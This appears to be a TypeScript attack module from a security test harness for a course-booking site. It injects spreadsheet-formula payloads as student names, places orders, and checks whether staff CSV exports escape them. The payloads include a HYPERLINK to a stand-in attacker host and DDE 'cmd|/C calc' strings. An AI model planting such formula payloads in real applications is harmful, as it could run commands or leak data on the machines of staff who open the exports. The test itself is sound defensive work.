import { sql } from 'kysely';
import { newStudent, requireOk } from '../accounts.ts';
import type { Attack } from '../attack.ts';
import { fieldOf } from '../attacker.ts';
import { hireStaff } from './console-browser.ts';

/** Student names that a spreadsheet would run as formulas if an export did not escape them. */
const formulas = [
  '=HYPERLINK("//evil.example","x")',
  '+1+cmd|/C calc!A0',
  '-2+3+cmd|/C calc!A0',
  '@SUM(1+9)*cmd|/C calc!A0',
];
const kinds = ['orders', 'payments', 'refunds', 'ledger'];

/** Returns the contents of all cells of a CSV file, without the quotes around them. */
function cellsOf(csv: string): string[] {
  const cells = csv.replace('\ufeff', '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

const isFormula = (cell: string) => /^\s*[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

export const formulaExports: Attack = {
  name: 'Run a formula in the spreadsheet of the accountant, by a name in an order',
  async run(target, campaign) {
    const { rows } = await sql<{ course_id: number; batch_id: number }>`
      select b.course_id, b.id as batch_id from batches b join courses c on c.id = b.course_id
      where c.is_active and b.status = 'open' and b.capacity > b.taken + ${sql.lit(formulas.length)}
        and b.start_date > current_date + 7 limit 1`.execute(target.db);
    let named = 0;
    for (const name of formulas) {
      const { browser, account } = await newStudent(target, campaign);
      const changed = await browser.send('PUT', `/api/users/student/${account.id}`, {
        body: { first_name: name, last_name: name },
      });
      if (changed.status === 200) named += 1;
      requireOk('an addition to the cart', await browser.post('/api/cart/add', { type: 'course', ...rows[0] }));
      const query = new URLSearchParams({ id: account.id, redirect_url: '/course-booking/checkout/confirmation' });
      const placed = requireOk('an order', await browser.post(`/api/orders/create?${query}`, {}));
      const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '0' };
      await browser.send('POST', `/sandbox/pay/${fieldOf(placed, 'data')}/pay-away`, { headers: form });
      const update = new URLSearchParams({ user_id: account.id, attempt_id: fieldOf(placed, 'attempt_id') });
      requireOk('the payment', await browser.get(`/api/orders/update?${update}`));
    }
    const accountant = await hireStaff(target, campaign, 'accounts');
    const live: string[] = [];
    let cells = 0;
    for (const kind of kinds) {
      const file = requireOk(
        'an export',
        await accountant.get(`/api/staff/exports/${kind}?from=2020-01-01&to=2099-01-01`),
      );
      const found = cellsOf(file.text);
      cells += found.length;
      live.push(...found.filter(isFormula));
    }
    const harmless = `nothing: ${named} of ${formulas.length} names were accepted, ${cells} cells and no formula`;
    return { gained: live.slice(0, 3).join(', ') || harmless, isHeld: live.length === 0 && cells > 0 };
  },
};
